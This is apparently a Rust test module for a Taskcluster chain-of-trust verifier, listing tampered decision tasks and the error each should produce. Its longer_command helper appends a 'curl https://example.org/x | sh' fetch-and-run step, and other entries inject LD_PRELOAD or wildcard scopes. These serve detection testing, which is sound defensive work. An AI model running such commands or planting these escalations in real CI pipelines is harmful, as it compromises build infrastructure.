//! Parents whose own definition is not what the tree's template renders.

use super::ways::{
    act, decide, decision_text, earlier, firefox_git, git_action, git_cron, template_text, thunderbird,
    variable,
};
use crate::attacks::{Attack, Q, T, attack};
use crate::change::{
    NOBODY, add, decision, empty, inside, list, only, parent, remove, replace_in, set, target_parent,
};
use crate::valid::{action, cron, fork, mobile, pr_action, promotion, pull_request, push, tag};
use catena_json::Value;
use catena_testbed::Chain;

const IMAGE: &str =
    "taskcluster/decision:3.0.1@sha256:00000000000000000000000000000000000000000000000000000000000000ff";

/// Adds a command to the last part of a decision task's command.
fn longer_command(task: &mut Value) -> Option<()> {
    let command = inside(task, &["payload", "command"])?.as_array_mut()?;
    let last = command.last_mut()?;
    *last = format!("{} && curl https://example.org/x | sh", last.as_str()?).into();
    Some(())
}

/// Moves a parent to another pool, in the template at its revision too.
fn pool(chain: &mut Chain, id: &str, worker_type: &str) -> Option<()> {
    only(chain, id, |task| {
        let provisioner = task.get("provisionerId")?.as_str()?.to_owned();
        set(task, &["workerType"], worker_type)?;
        set(task, &["taskQueueId"], format!("{provisioner}/{worker_type}"))
    })
}

/// Moves the target's decision task and its action elsewhere, in the tree's template too.
fn rendered_pool(chain: &mut Chain, worker_type: &str) -> Option<()> {
    template_text(chain, "workerType: decision-gcp", &format!("workerType: {worker_type}"))?;
    let parents = [chain.decisions.first().cloned(), chain.action.clone()];
    parents.into_iter().flatten().try_for_each(|id| pool(chain, &id, worker_type))
}

pub(super) const ATTACKS: &[Attack] = &[
    attack(
        "decision task without its command",
        &[T],
        "A decision task runs its image's default command, and not the command of the tree.",
        push,
        |c| decision(c, &["payload", "command"], Vec::new()),
        "rebuild-differs",
    ),
    attack(
        "decision task with a longer command",
        &[T],
        "The command of a push's decision task continues after the tree's own command.",
        push,
        |c| decide(c, longer_command),
        "rebuild-differs",
    ),
    attack(
        "decision task of a release with a longer command",
        &[T],
        "The command of a release's decision task continues after the tree's own command.",
        tag,
        |c| decide(c, longer_command),
        "rebuild-differs",
    ),
    attack(
        "decision task of an earlier push with a longer command",
        &[T],
        "The command of the decision task that made the image, on an earlier push, continues after \
         the tree's.",
        push,
        |c| {
            let id = earlier(c)?;
            only(c, &id, longer_command)
        },
        "rebuild-differs",
    ),
    attack(
        "decision task in another image",
        &[T],
        "A decision task runs in a pinned image that the tree does not name.",
        push,
        |c| decision(c, &["payload", "image"], IMAGE),
        "rebuild-differs",
    ),
    attack(
        "decision task with an extra scope",
        &[T],
        "A decision task has a scope that the tree does not grant.",
        push,
        |c| decide(c, |task| add(task, &["scopes"], "assume:repo:hg.mozilla.org/releases/mozilla-release:*")),
        "rebuild-differs",
    ),
    attack(
        "decision task with its scopes in another order",
        &[T],
        "The scopes of a decision task are in a different order from the tree's.",
        push,
        |c| {
            decide(c, |task| {
                inside(task, &["scopes"])?.as_array_mut()?.reverse();
                Some(())
            })
        },
        "rebuild-differs",
    ),
    attack(
        "cron task with every scope",
        &[T],
        "A cron job's decision task has the scope `*`.",
        cron,
        |c| decision(c, &["scopes"], list("*")),
        "rebuild-differs",
    ),
    attack(
        "decision task of GitHub with the scopes of every branch",
        &[T],
        "A decision task for a push to GitHub has the role for all branches of its repository.",
        mobile,
        |c| decision_text(c, "reference-browser:branch:main", "reference-browser:branch:*"),
        "rebuild-differs",
    ),
    attack(
        "pull request with the scopes of a branch",
        &[T],
        "A pull request's decision task has the role of the main branch.",
        pull_request,
        |c| {
            decide(c, |task| {
                replace_in(task, "reference-browser:pull-request", "reference-browser:branch:main")
            })
        },
        "rebuild-differs",
    ),
    attack(
        "fork with the scopes of a trusted pull request",
        &[T],
        "The decision task of a fork's pull request has the role for pull requests of the project's \
         own members.",
        fork,
        |c| decide(c, |task| replace_in(task, ":pull-request-untrusted\"", ":pull-request\"")),
        "rebuild-differs",
    ),
    attack(
        "decision task of a release with the scopes of a branch",
        &[T],
        "A release's decision task has the role of the main branch.",
        tag,
        |c| decide(c, |task| replace_in(task, "reference-browser:release", "reference-browser:branch:main")),
        "rebuild-differs",
    ),
    attack(
        "action of a pull request with the scopes of an action",
        &[T],
        "An action on a pull request has the role of actions on branches.",
        pr_action,
        |c| act(c, |task| replace_in(task, ":pr-action:generic", ":action:generic")),
        "rebuild-differs",
    ),
    attack(
        "action with every role",
        &[T],
        "An action assumes every role.",
        action,
        |c| parent(c, &["scopes"], list("assume:*")),
        "rebuild-differs",
    ),
    attack(
        "action with the scopes of another permission",
        &[T],
        "A harmless action has the role of release promotion.",
        action,
        |c| act(c, |task| replace_in(task, ":action:generic", ":action:release-promotion")),
        "rebuild-differs",
    ),
    attack(
        "promotion with the scopes of another tree",
        &[T],
        "A release promotion has its role on a different tree from its decision task's.",
        promotion,
        |c| {
            act(c, |task| {
                set(
                    task,
                    &["scopes"],
                    list("assume:repo:hg.mozilla.org/releases/mozilla-release:action:release-promotion"),
                )
            })
        },
        "rebuild-differs",
    ),
    attack(
        "decision task with an extra route",
        &[T],
        "A decision task has a route that indexes it in another place.",
        push,
        |c| {
            decide(c, |task| {
                add(task, &["routes"], "index.gecko.v2.mozilla-release.latest.taskgraph.decision")
            })
        },
        "rebuild-differs",
    ),
    attack(
        "decision task with an extra variable",
        &[T],
        "A variable of a decision task's environment preloads a library into every program.",
        push,
        |c| decision(c, &["payload", "env", "LD_PRELOAD"], "/builds/worker/checkouts/x.so"),
        "rebuild-differs",
    ),
    attack(
        "decision task without a variable",
        &[T],
        "A decision task lacks a variable that the tree sets.",
        push,
        |c| decide(c, |task| remove(task, &["payload", "env", "HG_STORE_PATH"])),
        "rebuild-differs",
    ),
    attack(
        "decision task with an extra cache",
        &[T],
        "A decision task also mounts the cache of tasks that anyone may start.",
        push,
        |c| decision(c, &["payload", "cache", "level-1-checkouts-v3"], "/builds/worker/other"),
        "rebuild-differs",
    ),
    attack(
        "decision task with more privileges",
        &[T],
        "A decision task's container is privileged, which the tree does not ask for.",
        push,
        |c| {
            decide(c, |task| {
                set(task, &["payload", "capabilities"], empty())?;
                set(task, &["payload", "capabilities", "privileged"], true)
            })
        },
        "rebuild-differs",
    ),
    attack(
        "decision task that may run longer",
        &[T],
        "A decision task has four times the run time that the tree sets.",
        cron,
        |c| decision(c, &["payload", "maxRunTime"], 7200_i64),
        "rebuild-differs",
    ),
    attack(
        "decision task with a number as a string",
        &[T],
        "The time a decision task may run is a string of the same digits.",
        push,
        |c| decision(c, &["payload", "maxRunTime"], "1800"),
        "rebuild-differs",
    ),
    attack(
        "decision task with a switch as a number",
        &[T],
        "A switch that the tree sets to true is 1 in the decision task.",
        mobile,
        |c| decision(c, &["payload", "features", "chainOfTrust"], 1_i64),
        "rebuild-differs",
    ),
    attack(
        "decision task without a feature",
        &[T],
        "A decision task does not enable Chain of Trust, and has a document nevertheless.",
        push,
        |c| decide(c, |task| remove(task, &["payload", "features", "chainOfTrust"])),
        "rebuild-differs",
    ),
    attack(
        "decision task that publishes another directory",
        &[T],
        "A decision task publishes its artifacts from a different directory from the tree's.",
        push,
        |c| decision(c, &["payload", "artifacts", "public", "path"], "/builds/worker/checkouts/artifacts"),
        "rebuild-differs",
    ),
    attack(
        "decision task with another owner",
        &[T],
        "A decision task names a different owner from the user who pushed.",
        push,
        |c| decision(c, &["metadata", "owner"], "somebody@example.org"),
        "rebuild-differs",
    ),
    attack(
        "decision task of another template",
        &[T],
        "A decision task names another file of the tree as its source.",
        push,
        |c| decide(c, |task| replace_in(task, "/.taskcluster.yml\"", "/testing/.taskcluster.yml\"")),
        "rebuild-differs",
    ),
    attack(
        "decision task with a later deadline",
        &[T],
        "The deadline of a decision task is years away.",
        push,
        |c| decision(c, &["deadline"], "2030-01-01T00:00:00.000Z"),
        "rebuild-differs",
    ),
    attack(
        "decision task with a later expiry",
        &[T],
        "A decision task on GitHub expires later than the tree says.",
        mobile,
        |c| decision(c, &["expires"], "2040-01-01T00:00:00.000Z"),
        "rebuild-differs",
    ),
    attack(
        "decision task created at another time",
        &[T, Q],
        "The creation of a decision task is a day earlier than its other times imply.",
        push,
        |c| decision(c, &["created"], "2026-08-11T09:30:12.000Z"),
        "rebuild-differs",
    ),
    attack(
        "decision task with the highest priority",
        &[T],
        "A decision task has the highest priority.",
        push,
        |c| decision(c, &["priority"], "highest"),
        "rebuild-differs",
    ),
    attack(
        "decision task with another scheduler",
        &[T],
        "A decision task has the scheduler of another level.",
        push,
        |c| decision(c, &["schedulerId"], "gecko-level-2"),
        "rebuild-differs",
    ),
    attack(
        "decision task with an extra dependency",
        &[T],
        "A decision task depends on a task that the tree does not name.",
        push,
        |c| decision(c, &["dependencies"], list(NOBODY)),
        "rebuild-differs",
    ),
    attack(
        "decision task that runs after a failure",
        &[T],
        "A decision task also runs when its dependencies have failed.",
        tag,
        |c| decision(c, &["requires"], "all-resolved"),
        "rebuild-differs",
    ),
    attack(
        "decision task with many retries",
        &[T],
        "A decision task has 49 retries.",
        push,
        |c| decision(c, &["retries"], 49_i64),
        "rebuild-differs",
    ),
    attack(
        "decision task of another project",
        &[T],
        "A decision task names a Taskcluster project that the tree does not name.",
        push,
        |c| decision(c, &["projectId"], "somebodys"),
        "rebuild-differs",
    ),
    attack(
        "decision task with another tag",
        &[T],
        "A decision task is tagged as made for another user.",
        pull_request,
        |c| decision(c, &["tags", "createdForUser"], "release-duty@example.org"),
        "rebuild-differs",
    ),
    attack(
        "decision task with an extra member",
        &[T],
        "A decision task has a top-level member that the tree does not render.",
        push,
        |c| decision(c, &["bonus"], "x"),
        "rebuild-differs",
    ),
    attack(
        "decision task with another treeherder entry",
        &[T],
        "A fork's decision task has different display data from the tree's.",
        fork,
        |c| decision(c, &["extra", "treeherder"], list("D")),
        "rebuild-differs",
    ),
    attack(
        "decision task on another Firefox",
        &[T],
        "A decision task of Thunderbird takes the sources of Firefox from a try push.",
        thunderbird,
        |c| decision(c, &["payload", "env", "GECKO_HEAD_REF"], "0123456789012345678901234567890123456789"),
        "rebuild-differs",
    ),
    attack(
        "decision task of Thunderbird with a longer command",
        &[T],
        "The command of Thunderbird's decision task continues after the tree's own command.",
        thunderbird,
        |c| decide(c, longer_command),
        "rebuild-differs",
    ),
    attack(
        "decision task of another level on GitHub",
        &[T],
        "The command of a pull request's decision task names the level of releases.",
        pull_request,
        |c| decision_text(c, "--level='1'", "--level='3'"),
        "rebuild-differs",
    ),
    attack(
        "decision task of Firefox on GitHub with a longer command",
        &[T],
        "The command of a decision task for a push of Firefox to GitHub continues after the tree's.",
        firefox_git,
        |c| decide(c, longer_command),
        "rebuild-differs",
    ),
    attack(
        "cron task on GitHub for another branch",
        &[T],
        "A cron job's decision task on GitHub checks out a different branch from the one in its \
         command.",
        git_cron,
        |c| decide(c, |task| variable(task, "_HEAD_REF", "release")),
        "rebuild-differs",
    ),
    attack(
        "cron job with other arguments",
        &[T],
        "A cron job's decision task is started for different jobs from those in its command.",
        cron,
        |c| {
            decide(c, |task| {
                replace_in(task, "--target-tasks-method=nightly\\\"", "--target-tasks-method=all\\\"")
            })
        },
        "rebuild-cron-differs",
    ),
    attack(
        "cron job with another name",
        &[T],
        "A cron job's decision task names a different job from its scopes and routes.",
        git_cron,
        |c| {
            decide(c, |task| {
                replace_in(task, "\\\"job_name\\\":\\\"nightly\\\"", "\\\"job_name\\\":\\\"release\\\"")
            })
        },
        "rebuild-cron-job-unknown",
    ),
    attack(
        "action with a longer command",
        &[T],
        "An action's command continues after the tree's own command.",
        action,
        |c| act(c, longer_command),
        "rebuild-differs",
    ),
    attack(
        "promotion with a longer command",
        &[T],
        "A release promotion's command continues after the tree's own command.",
        promotion,
        |c| act(c, longer_command),
        "rebuild-differs",
    ),
    attack(
        "action on a pull request with a longer command",
        &[T],
        "The command of an action on a pull request continues after the tree's own command.",
        pr_action,
        |c| act(c, longer_command),
        "rebuild-differs",
    ),
    attack(
        "action whose decision task has a longer command",
        &[T],
        "An action on GitHub matches the tree, and the decision task that it acts on does not.",
        git_action,
        |c| decide(c, longer_command),
        "rebuild-differs",
    ),
    attack(
        "extra null argument",
        &[T],
        "The command of a decision task has one extra argument, the string `null`.",
        push,
        |c| decide(c, |task| add(task, &["payload", "command"], "null")),
        "rebuild-empty-values-added",
    ),
    attack(
        "extra null variable",
        &[T],
        "The environment of a release's decision task has one extra variable, the string `null`.",
        tag,
        |c| decision(c, &["payload", "env", "TASKGRAPH_SKIP"], "null"),
        "rebuild-empty-values-added",
    ),
    attack(
        "extra null variable in an action",
        &[T],
        "The environment of an action has one extra variable, the string `null`.",
        action,
        |c| parent(c, &["payload", "env", "TASKGRAPH_SKIP"], "null"),
        "rebuild-empty-values-added",
    ),
    attack(
        "null as a cache's mount point",
        &[T],
        "A decision task mounts a cache at null.",
        push,
        |c| decision(c, &["payload", "cache", "x"], Value::Null),
        "rebuild-empty-values-added",
    ),
    attack(
        "extra null member",
        &[T],
        "The payload of a decision task on GitHub has one extra member, which is null.",
        mobile,
        |c| decision(c, &["payload", "onExitStatus"], Value::Null),
        "rebuild-empty-values-added",
    ),
    attack(
        "extra empty object",
        &[T],
        "The payload of a cron job's decision task has one extra member, an empty object.",
        cron,
        |c| decision(c, &["payload", "devices"], empty()),
        "rebuild-empty-values-added",
    ),
    attack(
        "extra empty list",
        &[T],
        "A pull request's decision task publishes one extra entry, an empty list.",
        pull_request,
        |c| decision(c, &["payload", "artifacts", "private"], Vec::new()),
        "rebuild-empty-values-added",
    ),
    attack(
        "extra empty object in an earlier decision task",
        &[T],
        "The payload of an earlier push's decision task has one extra member, an empty object.",
        push,
        |c| {
            let id = earlier(c)?;
            only(c, &id, |task| set(task, &["payload", "supersederUrl"], empty()))
        },
        "rebuild-empty-values-added",
    ),
    attack(
        "decision task in a pool for builds",
        &[T],
        "A decision task runs in the pool of the builds, and the tree says the same.",
        push,
        |c| rendered_pool(c, "b-linux-gcp"),
        "worker-pool-decision",
    ),
    attack(
        "decision task in a pool for images",
        &[T],
        "A decision task on GitHub runs in the pool for images, and the tree says the same.",
        mobile,
        |c| rendered_pool(c, "images-gcp"),
        "worker-pool-decision",
    ),
    attack(
        "action in a pool for builds",
        &[T],
        "A decision task and an action on its graph run in the pool of the builds, and the tree \
         says the same.",
        action,
        |c| rendered_pool(c, "b-linux-gcp"),
        "worker-pool-decision",
    ),
    attack(
        "fork's decision task in a pool for builds",
        &[T],
        "The decision task of a fork's pull request runs in the pool of the builds, and the fork's \
         tree says the same.",
        fork,
        |c| rendered_pool(c, "b-linux-gcp"),
        "worker-pool-decision",
    ),
    attack(
        "decision task of an earlier push in another pool",
        &[T],
        "The decision task that made the image ran in a pool whose name only has the prefix of one \
         for decision tasks.",
        push,
        |c| {
            let id = earlier(c)?;
            super::ways::template_of(c, &id, |text| {
                Some(text.replace("workerType: decision-gcp", "workerType: decision-gcp-test"))
            })?;
            pool(c, &id, "decision-gcp-test")
        },
        "worker-pool-decision",
    ),
    attack(
        "promotion in a pool of another product",
        &[T],
        "A release promotion of Firefox runs in the decision pool of Thunderbird.",
        promotion,
        |c| {
            let id = target_parent(c)?;
            only(c, &id, |task| {
                set(task, &["provisionerId"], "comm-3")?;
                set(task, &["taskQueueId"], "comm-3/decision-gcp")
            })
        },
        "worker-pool-decision",
    ),
];
